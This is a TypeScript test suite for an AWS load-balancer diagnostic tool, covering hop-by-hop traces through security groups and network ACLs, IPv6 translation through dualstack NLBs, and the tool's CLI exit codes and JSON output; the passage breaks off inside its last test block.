/**
 * The AWS trace (hop by hop through security groups and network ACLs, the
 * reply on the ephemeral ports included) over fixture snapshots, the AWS
 * load-balancer view's data, and `lbdoctor trace` on AWS snapshots: exit codes
 * and the JSON shape.
 */
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import igwRule from "../rules/aws/internet-facing-in-private-subnets/rule.ts";
import { createAwsInspector } from "../src/providers/aws/inspect.ts";
import { buildAwsModel } from "../src/providers/aws/model.ts";
import { listenerRoutesClient, listenerRoutesFamily } from "../src/providers/aws/rule-helpers.ts";
import {
  type FlowTrace,
  listensOn,
  parseSource,
  routesOf,
  traceData,
  traceFromSource,
  traceHealthCheck,
} from "../src/providers/aws/trace-flows.ts";
import type { AwsSnapshot } from "../src/providers/aws/wire-types.ts";
import {
  ACCOUNT,
  type AwsScenario,
  albBehindNlb,
  awsId,
  CIDR,
  healthyAlb,
  healthyNlb,
  ids,
  listenerArn,
  tgArn,
  V6,
  withIpv6TargetGroup,
  withSourceCidrRule,
  withSourceIpRule,
} from "./support/aws-builder.ts";
import { lbdoctor, ROOT } from "./support/cli.ts";
import { evaluateCase } from "./support/rule-tester.ts";

const tmp = mkdtempSync(join(tmpdir(), "lbdoctor-aws-trace-"));
const load = (name: string): AwsSnapshot => JSON.parse(readFileSync(join(ROOT, "fixtures", "aws", `${name}.json`), "utf8"));
type Doc = AwsSnapshot & { ec2: { NetworkAcls: Array<Record<string, unknown>> } };

const WEB1_SUBNET = "subnet-0f7ce07d6cc65842f";

/**
 * `b` with `::/0` routed from the public route table to `target` (the internet gateway unless given): what a dualstack
 * internet-facing load balancer's IPv6 clients need. Every route table also gets the local route of the VPC's IPv6 CIDR,
 * as AWS adds it to each table of a VPC with an IPv6 CIDR.
 */
function withIpv6Igw(b: AwsScenario, target: string = ids.igw): AwsScenario {
  return b.edit((s) => {
    for (const rt of s.ec2?.RouteTables ?? [])
      rt.Routes = [
        ...(rt.Routes as Array<Record<string, unknown>>),
        { DestinationIpv6CidrBlock: V6.vpc, GatewayId: "local", State: "active", Origin: "CreateRouteTable" },
        ...(rt.RouteTableId === ids.rtb.public
          ? [
              {
                DestinationIpv6CidrBlock: "::/0",
                [target.startsWith("eigw-") ? "EgressOnlyInternetGatewayId" : "GatewayId"]: target,
                State: "active",
              },
            ]
          : []),
      ];
  });
}

/** healthy-alb with web-1's subnet moved to its own ACL, whose inbound entry 90 denies the VPC on port 80. */
function naclDeniesRequest(): AwsSnapshot {
  const doc = load("healthy-alb") as Doc;
  const shared = doc.ec2.NetworkAcls[0] as { Associations: Array<{ SubnetId: string }> };
  shared.Associations = shared.Associations.filter((a) => a.SubnetId !== WEB1_SUBNET);
  doc.ec2.NetworkAcls.push({
    NetworkAclId: "acl-0test",
    VpcId: "vpc-0ea045b2850c293a1",
    IsDefault: false,
    Associations: [{ NetworkAclAssociationId: "aclassoc-0test", NetworkAclId: "acl-0test", SubnetId: WEB1_SUBNET }],
    Entries: [
      { RuleNumber: 90, Protocol: "6", RuleAction: "deny", Egress: false, CidrBlock: "10.0.0.0/16", PortRange: { From: 80, To: 80 } },
      { RuleNumber: 100, Protocol: "-1", RuleAction: "allow", Egress: false, CidrBlock: "0.0.0.0/0" },
      { RuleNumber: 100, Protocol: "-1", RuleAction: "allow", Egress: true, CidrBlock: "0.0.0.0/0" },
      { RuleNumber: 32767, Protocol: "-1", RuleAction: "deny", Egress: false, CidrBlock: "0.0.0.0/0" },
      { RuleNumber: 32767, Protocol: "-1", RuleAction: "deny", Egress: true, CidrBlock: "0.0.0.0/0" },
    ],
  });
  return doc;
}

function route(snapshot: AwsSnapshot, listenerPort: number, target = "i-0d0a4043b7d057558") {
  const model = buildAwsModel(snapshot);
  const r = model.loadBalancers.flatMap(routesOf).find((x) => x.listener?.port === listenerPort && x.target.id === target);
  assert.ok(r, `a route on listener ${listenerPort} to ${target}`);
  return { model, r };
}

interface Case {
  name: string;
  snapshot: () => AwsSnapshot;
  listener?: number;
  target?: string;
  flow: "health" | "data" | { from: string; port: number };
  verdict: "allow" | "deny" | "unknown";
  /** the hop that decides (deny, unknown) */
  at?: string;
  rule?: RegExp;
  check?: (t: FlowTrace) => void;
}

const LB_TO_TARGET = ["lb-sg-egress", "lb-nacl-out", "target-nacl-in", "target-sg-ingress", "target-nacl-out", "lb-nacl-in"];

const CASES: Case[] = [
  {
    name: "allowed: the data path of a healthy ALB, every hop in order",
    snapshot: () => load("healthy-alb"),
    flow: "data",
    verdict: "allow",
    check: (t) => {
      assert.deepEqual(
        t.hops.map((h) => h.layer),
        ["lb-sg-ingress", "lb-nacl-in", "lb-nacl-out", ...LB_TO_TARGET],
      );
      assert.ok(t.hops.every((h) => h.verdict === "allow" && h.deciding));
      assert.match(
        t.hops[6]?.deciding?.name ?? "",
        /^ingress tcp port 80 from sg-0f51ce9a2f3be86ff in sg-/,
        "the target SG admits the LB's SG",
      );
    },
  },
  {
    name: "allowed: the health check of a healthy ALB",
    snapshot: () => load("healthy-alb"),
    flow: "health",
    verdict: "allow",
    check: (t) =>
      assert.deepEqual(
        t.hops.map((h) => h.layer),
        LB_TO_TARGET,
      ),
  },
  {
    name: "SG deny: the target's security group does not admit the traffic port",
    snapshot: () => load("target-sg-blocks-traffic"),
    flow: "data",
    verdict: "deny",
    at: "target-sg-ingress",
    rule: /no ingress rule allows tcp 8080 from web-alb's node/,
  },
  {
    name: "SG deny: the LB's security group does not admit the HTTPS listener",
    snapshot: () => load("lb-sg-blocks-listener"),
    listener: 443,
    flow: "data",
    verdict: "deny",
    at: "lb-sg-ingress",
    rule: /no ingress rule allows tcp 443 from clients on the internet/,
    check: (t) =>
      assert.ok(t.hops.some((h) => h.layer === "lb-sg-ingress" && h.notes.some((n) => /near miss: ingress tcp port 80/.test(n.text)))),
  },
  {
    name: "a client on a listener's port goes through that listener to the target port (443 → 80), not straight to the target",
    snapshot: () => load("lb-sg-blocks-listener"),
    listener: 443,
    flow: { from: "Internet", port: 443 },
    verdict: "deny",
    at: "lb-sg-ingress",
    rule: /no ingress rule allows tcp 443 from clients on the internet/,
    check: (t) => assert.match(t.flow, /^clients on the internet → web-alb:443\/HTTPS → .*10\.0\.11\.10:80\/tcp$/),
  },
  {
    name: "egress deny on the LB SG: nothing lets the LB reach the targets",
    snapshot: () => load("lb-sg-egress-blocks-targets"),
    flow: "health",
    verdict: "deny",
    at: "lb-sg-egress",
    rule: /no egress rule allows tcp 80 to i-0d0a4043b7d057558/,
  },
  {
    name: "NACL deny: the target subnet's inbound entry 90 denies the request",
    snapshot: naclDeniesRequest,
    flow: "health",
    verdict: "deny",
    at: "target-nacl-in",
    rule: /^rule 90: deny tcp port 80 from 10\.0\.0\.0\/16$/,
    check: (t) => assert.equal(t.hops.find((h) => h.layer === "target-nacl-in")?.ruleNumber, 90),
  },
  {
    name: "NACL ephemeral-return deny: the target subnet's ACL lets the request in but not the reply out",
    snapshot: () => load("nacl-blocks-health-check"),
    flow: "health",
    verdict: "deny",
    at: "target-nacl-out",
    rule: /^rule \* \(the implicit deny\)$/,
    check: (t) => {
      const hop = t.hops.find((h) => h.layer === "target-nacl-out");
      assert.equal(hop?.ruleNumber, 32767);
      assert.match(hop?.title ?? "", /^target subnet ACL outbound \(reply to the ephemeral port\) · /);
      assert.equal(t.hops.find((h) => h.layer === "target-nacl-in")?.verdict, "allow", "the request itself is allowed");
    },
  },
  {
    name: "NLB without security groups that preserves client IPs: nothing filters at the LB, the target sees the clients",
    snapshot: () => load("healthy-nlb"),
    flow: "data",
    verdict: "allow",
    check: (t) => {
      assert.match(t.hops[0]?.title ?? "", /no security groups/);
      assert.match(t.basis, /preserves client IPs/);
      assert.match(t.hops.find((h) => h.layer === "target-sg-ingress")?.deciding?.name ?? "", /from 0\.0\.0\.0\/0/);
      assert.match(t.hops.find((h) => h.layer === "target-nacl-in")?.notes[0]?.text ?? "", /from clients on the internet/);
    },
  },
  {
    name: "unknown: an internal NLB whose target admits only part of the VPC, for clients in general",
    snapshot: () => load("nlb-hairpin"),
    listener: 8080,
    flow: "data",
    verdict: "unknown",
    at: "target-sg-ingress",
    check: (t) => assert.match(t.reason ?? "", /trace one client address/),
  },
  {
    name: "…and one client address in the allowed subnet is allowed",
    snapshot: () => load("nlb-hairpin"),
    listener: 8080,
    flow: { from: "10.0.12.7", port: 8080 },
    verdict: "allow",
  },
];

describe("AWS trace, case table over fixture snapshots", () => {
  for (const c of CASES) {
    it(c.name, () => {
      const { model, r } = route(c.snapshot(), c.listener ?? 80, c.target);
      let t: FlowTrace;
      if (c.flow === "health") t = traceHealthCheck(model, r);
      else if (c.flow === "data") t = traceData(model, r);
      else {
        const src = parseSource(model, c.flow.from);
        assert.ok(!("error" in src));
        t = traceFromSource(model, r, src, c.flow.port, "tcp");
      }
      assert.equal(t.error, undefined);
      assert.equal(t.verdict, c.verdict, `${t.why ?? t.reason}`);
      if (c.at) {
        const first = t.hops.find((h) => h.verdict === c.verdict);
        assert.equal(first?.layer, c.at);
        if (c.rule) assert.match(first?.deciding?.name ?? "", c.rule);
        if (c.verdict === "deny") assert.match(t.why ?? "", new RegExp(`^at hop ${t.hops.indexOf(first as never) + 1}, `));
      }
      c.check?.(t);
    });
  }
});

describe("AWS load-balancer view", () => {
  it("lists listeners → target groups → targets with state, AZ, health reason and description, and the flows' verdicts", () => {
    const model = buildAwsModel(load("nacl-blocks-health-check"));
    const insp = createAwsInspector(model);
    const lb = model.loadBalancers[0];
    const d = insp.lbDetail(lb?.key ?? "");
    assert.ok(d);
    assert.deepEqual([d.kind, d.clients, d.columns.member, d.columns.host, d.columns.probe], ["public", "Internet", "TARGET", "AZ", "HC"]);
    assert.equal(d.frontends[0]?.title, "listener HTTP:80");
    const tg = d.frontends[0]?.rules[0];
    assert.match(tg?.title ?? "", /^target group web-tg · HTTP 80 · instance targets .*health check HTTP:traffic-port\//);
    const [web1, web2] = tg?.members ?? [];
    assert.deepEqual([web1?.member, web1?.ip], ["i-0d0a4043b7d057558 (web-1)", "10.0.11.10"]);
    assert.deepEqual(
      [web1?.zone, web1?.power, web1?.health.state, web1?.health.reason],
      ["us-east-1a", "running", "unhealthy", "Target.Timeout"],
    );
    assert.equal(web1?.health.meaning, "Request timed out", "the description DescribeTargetHealth gave");
    assert.deepEqual([web1?.probe.verdict, web1?.probe.layer, web1?.probe.rule], ["deny", "target-nacl-out", "rule * (the implicit deny)"]);
    assert.equal(
      web1?.probe.at,
      "target subnet ACL outbound (reply to the ephemeral port) · acl-021abbc7d0420bd46 · subnet subnet-0f7ce07d6cc65842f",
    );
    assert.equal(web2?.zone, "us-east-1b");
    assert.ok(web1?.traceable);
  });

  it("a stopped target and one in a zone the LB has not enabled carry their reason codes; a target group no listener uses is a footnote", () => {
    const stoppedModel = buildAwsModel(load("target-stopped"));
    const web2 = createAwsInspector(stoppedModel).lbDetail(stoppedModel.loadBalancers[0]?.key ?? "")?.frontends[0]?.rules[0]?.members[1];
    assert.deepEqual([web2?.power, web2?.health.state, web2?.health.reason], ["stopped", "unused", "Target.InvalidState"]);
    const web1 = createAwsInspector(stoppedModel).lbDetail(stoppedModel.loadBalancers[0]?.key ?? "")?.frontends[0]?.rules[0]?.members[0];
    assert.deepEqual([web1?.probe.verdict, web1?.probe.at], ["allow", undefined]);
    assert.match(web1?.probe.rule ?? "", /^target SG ingress tcp port 80 from sg-0f51ce9a2f3be86ff in sg-0e794eeaeb156db55$/);
    const azModel = buildAwsModel(load("target-az-not-enabled"));
    const web3 = createAwsInspector(azModel)
      .lbDetail(azModel.loadBalancers[0]?.key ?? "")
      ?.frontends[0]?.rules[0]?.members.find((m) => m.member.includes("web-3"));
    assert.deepEqual([web3?.zone, web3?.health.state, web3?.health.reason], ["us-east-1c", "unused", "Target.NotInUse"]);
    const doc = load("healthy-alb") as AwsSnapshot & { elbv2: { Listeners: unknown[] } };
    doc.elbv2.Listeners = [];
    const idle = buildAwsModel(doc);
    const footnotes = createAwsInspector(idle).lbDetail(idle.loadBalancers[0]?.key ?? "")?.footnotes ?? [];
    assert.ok(
      footnotes.some((f) => f.warn && /^target group web-tg \(2 targets\): no listener forwards to it$/.test(f.text)),
      JSON.stringify(footnotes),
    );
  });

  it("traces from the TUI: health check, data, a custom client, and says why a flow cannot be built", () => {
    const model = buildAwsModel(load("nacl-blocks-health-check"));
    const insp = createAwsInspector(model);
    const lbKey = model.loadBalancers[0]?.key ?? "";
    const targets = insp.traceTargets(lbKey);
    assert.equal(targets.length, 2);
    const hc = insp.trace(lbKey, targets[0]?.key ?? "", { kind: "probe" });
    assert.equal(hc.verdict, "deny");
    assert.match(
      hc.why ?? "",
      /^at hop 5, target subnet ACL outbound \(reply to the ephemeral port\) · .*: rule \* \(the implicit deny\)$/,
    );
    const custom = insp.trace(lbKey, targets[0]?.key ?? "", { kind: "custom", source: "203.0.113.9", port: 80, protocol: "Tcp" });
    assert.match(custom.flow, /^203\.0\.113\.9 → web-alb:80\/HTTP → /);
    const bad = insp.trace(lbKey, targets[0]?.key ?? "", { kind: "custom", source: "nowhere", port: 80, protocol: "Tcp" });
    assert.match(bad.error ?? "", /is not 'lb', a load balancer's name, Internet/);
    const icmp = insp.trace(lbKey, targets[0]?.key ?? "", { kind: "custom", source: "Internet", port: 0, protocol: "Icmp" });
    assert.match(icmp.error ?? "", /ICMP is not traced/);
    const states = insp.healthStates();
    assert.deepEqual(
      [...states.values()].map((v) => [v.state, v.reason]),
      [
        ["unhealthy", "Target.Timeout"],
        ["unhealthy", "Target.Timeout"],
      ],
    );
  });
});

describe("lbdoctor trace on AWS snapshots", () => {
  const aws = (name: string) => join(ROOT, "fixtures", "aws", `${name}.json`);

  it("exits 0 when every hop allows, 1 when one denies, and prints the hops with their deciding rules", () => {
    const ok = lbdoctor(["trace", "--snapshot", aws("healthy-alb"), "--from", "Internet", "--to", "web-1:80"]);
    assert.equal(ok.code, 0, ok.stderr);
    assert.match(ok.stdout, /^Flow: clients on the internet → web-alb:80\/HTTP → i-0d0a4043b7d057558 \(web-1\) 10\.0\.11\.10:80\/tcp$/m);
    assert.match(ok.stdout, /^Verdict: ALLOW/m);
    const denied = lbdoctor(["trace", "--snapshot", aws("nacl-blocks-health-check"), "--from", "lb", "--to", "i-0d0a4043b7d057558:80"]);
    assert.equal(denied.code, 1, denied.stderr);
    assert.match(
      denied.stdout,
      /^ {2}5\. target subnet ACL outbound \(reply to the ephemeral port\) · acl-021abbc7d0420bd46 · subnet subnet-0f7ce07d6cc65842f: DENY by rule \* \(the implicit deny\)$/m,
    );
    assert.match(
      denied.stdout,
      /^ {2}3\. target subnet ACL inbound \(request\) · .*: ALLOW by rule 100: allow tcp port 80 from 10\.0\.0\.0\/16$/m,
    );
    assert.match(denied.stdout, /^Verdict: DENY \(at hop 5, /m);
  });

  it("prints JSON: the flow, the route and every hop with its kind, verdict and deciding rule", () => {
    const r = lbdoctor([
      "trace",
      "--snapshot",
      aws("lb-sg-egress-blocks-targets"),
      "--from",
      "lb",
      "--to",
      "10.0.11.10:80",
      "--format",
      "json",
    ]);
    assert.equal(r.code, 1, r.stderr);
    const j = JSON.parse(r.stdout);
    assert.equal(j.provider, "aws");
    assert.equal(j.verdict, "deny");
    assert.match(j.loadBalancer, /^arn:aws:elasticloadbalancing:.*loadbalancer\/app\/web-alb\//);
    assert.match(j.targetGroup, /targetgroup\/web-tg\//);
    assert.deepEqual(Object.keys(j.target).sort(), ["id", "ip", "label", "port"]);
    assert.deepEqual(
      j.hops.map((h: { kind: string }) => h.kind),
      LB_TO_TARGET,
    );
    const egress = j.hops[0];
    assert.equal(egress.verdict, "deny");
    assert.deepEqual(egress.resources, ["sg-0f51ce9a2f3be86ff"]);
    assert.equal(egress.deciding.access, "Deny");
    assert.match(egress.deciding.ptr, /^\/ec2\/SecurityGroups\/\d+\/IpPermissionsEgress$/);
    assert.equal(typeof j.why, "string");
  });

  it("exits 2 on bad input, with the reason", () => {
    const cases: Array<[string[], RegExp]> = [
      [["--from", "Internet", "--to", "web-1"], /must be <instance\|ip>:<port>/],
      [["--from", "Internet", "--to", "i-nope:80"], /is not an EC2 instance, a target or a private IP/],
      [["--from", "somewhere", "--to", "web-1:80"], /--from 'somewhere' is not 'lb'/],
      [["--from", "Internet", "--to", "web-1:80", "--protocol", "icmp"], /ICMP is not traced/],
      [["--from", "lb", "--to", "web-1:80", "--lb", "nope"], /--lb 'nope' is not a load balancer/],
      [["--from", "Internet", "--to", "web-1:99999"], /'99999' is not a port \(1-65535\)/],
      [["--from", "Internet", "--to", "web-1:0"], /'0' is not a port/],
      [["--from", "Internet", "--to", "web-1:"], /'' is not a port/],
    ];
    for (const [args, re] of cases) {
      const r = lbdoctor(["trace", "--snapshot", aws("healthy-alb"), ...args]);
      assert.equal(r.code, 2, `${args.join(" ")}: ${r.stdout}${r.stderr}`);
      assert.match(r.stderr, re);
    }
    const azure = lbdoctor([
      "trace",
      "--snapshot",
      join(ROOT, "fixtures", "azure", "healthy-web.json"),
      "--from",
      "Internet",
      "--to",
      "vm1:80",
      "--lb",
      "x",
    ]);
    assert.equal(azure.code, 2);
    assert.match(azure.stderr, /--lb is for AWS snapshots/);
  });

  it("follows the listener on the --to port when the load balancer has several (443 and 80, both to target port 80)", () => {
    const file = aws("lb-sg-blocks-listener");
    const https = lbdoctor(["trace", "--snapshot", file, "--from", "Internet", "--to", "web-1:443", "--format", "json"]);
    assert.equal(https.code, 1, https.stderr);
    const j = JSON.parse(https.stdout);
    assert.equal(j.flow, "clients on the internet → web-alb:443/HTTPS → i-0d0a4043b7d057558 (web-1) 10.0.11.10:80/tcp");
    assert.equal(j.listener, "arn:aws:elasticloadbalancing:us-east-1:123456789012:listener/app/web-alb/56a7a8a69b245c87/8ef1266dd6c056e0");
    assert.equal(j.hops[0].kind, "lb-sg-ingress");
    assert.equal(j.hops[0].verdict, "deny");
    assert.match(j.why, /^at hop 1, load balancer security group ingress .*no ingress rule allows tcp 443 from clients on the internet/);
    const http = lbdoctor(["trace", "--snapshot", file, "--from", "Internet", "--to", "web-1:80"]);
    assert.equal(http.code, 0, http.stderr);
    assert.match(http.stdout, /^Flow: clients on the internet → web-alb:80\/HTTP → i-0d0a4043b7d057558 \(web-1\) 10\.0\.11\.10:80\/tcp$/m);
    // a port that is neither a listener's nor the target's still goes straight to the target, and says so
    const other = lbdoctor(["trace", "--snapshot", file, "--from", "Internet", "--to", "web-1:8443"]);
    assert.match(other.stdout, /^Flow: clients on the internet → i-0d0a4043b7d057558 \(web-1\) 10\.0\.11\.10:8443\/tcp$/m);
    assert.match(other.stdout, /directly, not through the load balancer/);
  });

  it("JSON names a listener only when the flow goes through it: not from the LB's nodes, not to a port straight to the target", () => {
    const file = aws("lb-sg-blocks-listener");
    const nodes = JSON.parse(lbdoctor(["trace", "--snapshot", file, "--from", "lb", "--to", "web-1:80", "--format", "json"]).stdout);
    assert.match(nodes.flow, /^web-alb's nodes → /);
    assert.equal(nodes.loadBalancer, "arn:aws:elasticloadbalancing:us-east-1:123456789012:loadbalancer/app/web-alb/56a7a8a69b245c87");
    assert.equal("listener" in nodes, false);
    const direct = JSON.parse(
      lbdoctor(["trace", "--snapshot", file, "--from", "Internet", "--to", "web-1:8443", "--format", "json"]).stdout,
    );
    assert.equal("listener" in direct, false);
    const client = JSON.parse(lbdoctor(["trace", "--snapshot", file, "--from", "Internet", "--to", "web-1:80", "--format", "json"]).stdout);
    assert.match(client.listener, /^arn:aws:elasticloadbalancing:.*:listener\/app\/web-alb\//);
  });

  it("asks for --lb when the target sits behind two load balancers on that port", () => {
    const doc = load("healthy-alb") as AwsSnapshot & { elbv2: Record<string, unknown[]> };
    const lb = structuredClone(doc.elbv2.LoadBalancers?.[0]) as Record<string, unknown>;
    lb.LoadBalancerArn = String(lb.LoadBalancerArn).replace("web-alb", "web-alb-2");
    lb.LoadBalancerName = "web-alb-2";
    (doc.elbv2.LoadBalancers as unknown[]).push(lb);
    const tgs = doc.elbv2.TargetGroups as Array<{ LoadBalancerArns: string[] }>;
    tgs[0]?.LoadBalancerArns.push(String(lb.LoadBalancerArn));
    const file = join(tmp, "two-lbs.json");
    writeFileSync(file, JSON.stringify(doc));
    const r = lbdoctor(["trace", "--snapshot", file, "--from", "lb", "--to", "web-1:80"]);
    assert.equal(r.code, 2, r.stdout);
    assert.match(r.stderr, /sits behind web-alb, web-alb-2: name one with --lb/);
    const picked = lbdoctor(["trace", "--snapshot", file, "--from", "lb", "--to", "web-1:80", "--lb", "web-alb-2"]);
    assert.equal(picked.code, 0, picked.stderr);
    assert.match(picked.stdout, /^Flow: web-alb-2's nodes → /m);
  });
});

describe("AWS trace to an IPv6 IP target", () => {
  const PRIVATE = [ids.subnet.privateA, ids.subnet.privateB];
  /** healthyNlb with the IPv6 target group app6-tg (IP targets: the instances' IPv6 addresses); the default ACL admits ::/0. */
  const dual = () =>
    withIpv6TargetGroup(healthyNlb(), ids.lb.nlb, { name: "app6-tg", protocol: "TCP", port: 80, lbType: "network" }).naclAllowsIpv6();
  /** the targets' subnets on an ACL written for IPv4 alone: every IPv6 packet meets its implicit deny */
  const ipv4Acl = () =>
    dual().nacl({
      id: awsId("acl", "private-app"),
      subnets: PRIVATE,
      entries: [
        { rule: 100, protocol: "-1", cidr: "0.0.0.0/0" },
        { rule: 100, egress: true, protocol: "-1", cidr: "0.0.0.0/0" },
      ],
    });
  const noLbIpv6 = (s: AwsSnapshot) => {
    for (const sub of s.ec2?.Subnets ?? [])
      if (sub.SubnetId === ids.subnet.publicA || sub.SubnetId === ids.subnet.publicB) delete sub.Ipv6CidrBlockAssociationSet;
  };
  const fromLb = (snap: AwsSnapshot) => {
    const model = buildAwsModel(snap);
    const r = model.loadBalancers.flatMap(routesOf).find((x) => x.target.id === V6.web1);
    assert.ok(r);
    const src = parseSource(model, "lb");
    assert.ok(!("error" in src));
    return traceFromSource(model, r, src, 80, "tcp");
  };

  it("resolves the target's instance (its ENI's Ipv6Addresses) and subnet, and the nodes' IPv6 addresses meet the IPv6 entries", () => {
    const t = fromLb(ipv4Acl().build());
    const inbound = t.hops.find((h) => h.layer === "target-nacl-in");
    assert.ok(inbound);
    assert.match(inbound.title, new RegExp(`subnet ${ids.subnet.privateA}$`));
    assert.equal(inbound.verdict, "deny");
    assert.equal(inbound.ruleNumber, 32767);
    assert.match(inbound.notes.map((n) => n.text).join("\n"), /from app-nlb's node in \S+ \(2600:1f18:4a1:2101::\/64\)/);
    const sg = t.hops.find((h) => h.layer === "target-sg-ingress");
    assert.deepEqual(sg?.resources, [ids.sg.nlbApp]);
    assert.equal(t.verdict, "deny");
  });

  it("a node whose subnet's IPv6 CIDR is not in the snapshot: denied when all of ::/0 is, never allowed", () => {
    const denied = fromLb(ipv4Acl().edit(noLbIpv6).build()).hops.find((h) => h.layer === "target-nacl-in");
    assert.equal(denied?.verdict, "deny");
    const open = fromLb(dual().edit(noLbIpv6).build()).hops.find((h) => h.layer === "target-nacl-in");
    assert.equal(open?.verdict, "unknown");
    assert.match(
      open?.notes.map((n) => n.text).join("\n") ?? "",
      /IPv6 address of .* is not known: its subnet's IPv6 CIDR is not in the snapshot/,
    );
  });

  it("lbdoctor trace --to [IPv6]:80 names the instance and agrees with check", () => {
    const file = join(tmp, "ipv6-target.json");
    writeFileSync(file, JSON.stringify(ipv4Acl().build()));
    const r = lbdoctor(["trace", "--snapshot", file, "--from", "lb", "--to", `[${V6.web1}]:80`]);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, new RegExp(`^Flow: app-nlb's nodes → ${ids.instance.web1} \\(app-1\\) ${V6.web1}:80/tcp$`, "m"));
    assert.doesNotMatch(r.stdout, /subnet not known|are not in the snapshot/);
    assert.match(r.stdout, /^Verdict: DENY \(at hop 3, target subnet ACL inbound/m);
  });
});

describe("AWS trace through a dualstack NLB to a target group of the other IP family", () => {
  const PRIVATE = [ids.subnet.privateA, ids.subnet.privateB];
  /** healthyNlb made dualstack with the IPv6 target group app6-tg on listener 8080; the default ACL admits ::/0, the public route table routes it to the IGW */
  const dual = () =>
    withIpv6Igw(
      withIpv6TargetGroup(healthyNlb(), ids.lb.nlb, { name: "app6-tg", protocol: "TCP", port: 80, lbType: "network" }).naclAllowsIpv6(),
    );
  /** app6-tg preserves client IPs; the targets' subnets on an ACL written for IPv4 alone */
  const preservingV4Acl = () =>
    dual()
      .tgAttribute(tgArn("app6-tg"), "preserve_client_ip.enabled", "true")
      .nacl({
        id: awsId("acl", "private-app"),
        subnets: PRIVATE,
        entries: [
          { rule: 100, protocol: "-1", cidr: "0.0.0.0/0" },
          { rule: 100, egress: true, protocol: "-1", cidr: "0.0.0.0/0" },
        ],
      });
  const trace = (snap: AwsSnapshot, from: string, target: string, port: number) => {
    const model = buildAwsModel(snap);
    const r = model.loadBalancers.flatMap(routesOf).find((x) => x.target.id === target && listensOn(x, port));
    assert.ok(r, `a route through a listener on ${port} to ${target}`);
    const src = parseSource(model, from);
    assert.ok(!("error" in src));
    return traceFromSource(model, r, src, port, "tcp");
  };
  const notes = (t: FlowTrace, layer: string) =>
    t.hops
      .filter((h) => h.layer === layer)
      .flatMap((h) => h.notes.map((n) => n.text))
      .join("\n");

  it("an IPv4 client to an IPv6 target: the NLB translates, and the target's ACL and security groups see the NLB's IPv6 address even with client IP preservation on", () => {
    const t = trace(preservingV4Acl().build(), "203.0.113.5", V6.web1, 8080);
    const at = t.hops.findIndex((h) => h.layer === "lb-translate");
    assert.ok(at > 0, t.hops.map((h) => h.layer).join(", "));
    const hop = t.hops[at];
    assert.equal(hop?.verdict, "allow");
    assert.match(hop?.title ?? "", /translates IPv4 to IPv6 \(target group app6-tg is IPv6\)/);
    assert.match(
      notes(t, "lb-translate"),
      /from an IPv6 address of app-nlb's nodes \(2600:1f18:4a1:2101::\/64, 2600:1f18:4a1:2102::\/64\)/,
    );
    // the listener leg is IPv4 (the client's own address), the target leg IPv6 (the NLB's)
    assert.ok(t.hops.slice(0, at).every((h) => h.layer.startsWith("lb-")));
    assert.match(notes(t, "lb-nacl-in"), /from 203\.0\.113\.5/);
    const inbound = t.hops.find((h) => h.layer === "target-nacl-in");
    assert.equal(inbound?.verdict, "deny");
    assert.equal(inbound?.ruleNumber, 32767);
    assert.match(notes(t, "target-nacl-in"), /from app-nlb's node in \S+ \(2600:1f18:4a1:2101::\/64\)/);
    assert.doesNotMatch(notes(t, "target-nacl-in") + notes(t, "target-sg-ingress"), /203\.0\.113\.5/);
    assert.match(t.basis, /translates IPv4 clients' connections to IPv6 .* client IP preservation has no effect/);
    assert.equal(t.verdict, "deny");
  });

  it("an IPv6 client to an IPv4 target: the target's security group sees the NLB's IPv4 address, which its IPv4 rule admits", () => {
    const t = trace(dual().build(), "2600:1f13:9::5", ids.instance.web1, 80);
    assert.match(t.hops.find((h) => h.layer === "lb-translate")?.title ?? "", /translates IPv6 to IPv4/);
    const sg = t.hops.find((h) => h.layer === "target-sg-ingress");
    assert.equal(sg?.verdict, "allow");
    assert.match(sg?.deciding?.name ?? "", /from 0\.0\.0\.0\/0/);
    assert.equal(t.verdict, "allow");
  });

  it("an IPv6 client at an IPv4-only NLB: denied at the load balancer, which has no IPv6 address", () => {
    const t = trace(healthyNlb().build(), "2600:1f13:9::5", ids.instance.web1, 80);
    assert.equal(t.hops[0]?.layer, "lb-address-type");
    assert.equal(t.verdict, "deny");
    assert.match(t.why ?? "", /^at hop 1, load balancer · IP address type ipv4: app-nlb has no IPv6 address/);
    assert.ok(!t.hops.some((h) => h.layer === "lb-translate"));
  });

  it("lbdoctor trace --from <IPv4 client> --to [IPv6]:<listener port> prints the translation hop", () => {
    const file = join(tmp, "ipv4-client-ipv6-target.json");
    writeFileSync(file, JSON.stringify(preservingV4Acl().build()));
    const r = lbdoctor(["trace", "--snapshot", file, "--from", "203.0.113.5", "--to", `[${V6.web1}]:8080`]);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /^ {2}4\. load balancer · translates IPv4 to IPv6 \(target group app6-tg is IPv6\): ALLOW$/m);
    assert.match(r.stdout, /^ {7}the target's network ACL and security groups see that address, not 203\.0\.113\.5/m);
    assert.match(r.stdout, /^Verdict: DENY \(at hop 7, target subnet ACL inbound/m);
  });
});

describe("AWS trace to an Application Load Balancer target of an NLB", () => {
  it("is not entered, and says the NLB reaches it over IPv4 whatever the ALB's IP address type", () => {
    const model = buildAwsModel(
      albBehindNlb()
        .editLb(ids.lb.alb, (x) => void (x.IpAddressType = "dualstack"))
        .build(),
    );
    const r = model.loadBalancers.flatMap(routesOf).find((x) => x.target.kind === "alb");
    assert.ok(r);
    const t = traceData(model, r);
    assert.match(
      t.error ?? "",
      /^an Application Load Balancer target .*\(the NLB always reaches it over IPv4, whatever its IP address type;/,
    );
    assert.doesNotMatch(t.error ?? "", /sits in no subnet/);
  });
});

describe("AWS trace of a client's IP family: listener rules, an ALB without public IPv4, --from Internet on a dualstack load balancer", () => {
  /** healthyNlb dualstack with the IPv6 target group app6-tg (listener 8080); the default ACL admits ::/0, the public route table routes it to the IGW */
  const dual = () =>
    withIpv6Igw(
      withIpv6TargetGroup(healthyNlb(), ids.lb.nlb, { name: "app6-tg", protocol: "TCP", port: 80, lbType: "network" }).naclAllowsIpv6(),
    );
  /** dual, and listener 80's rule 10 sends IPv6 clients to app6-tg (its default action: app-tg) */
  const withRule = () => withSourceIpRule(dual(), ids.lb.nlb, 80, { priority: 10, ipAddressType: "ipv6", forward: tgArn("app6-tg") });
  const noPublicV4 = () => healthyAlb().editLb(ids.lb.alb, (x) => void (x.IpAddressType = "dualstack-without-public-ipv4"));
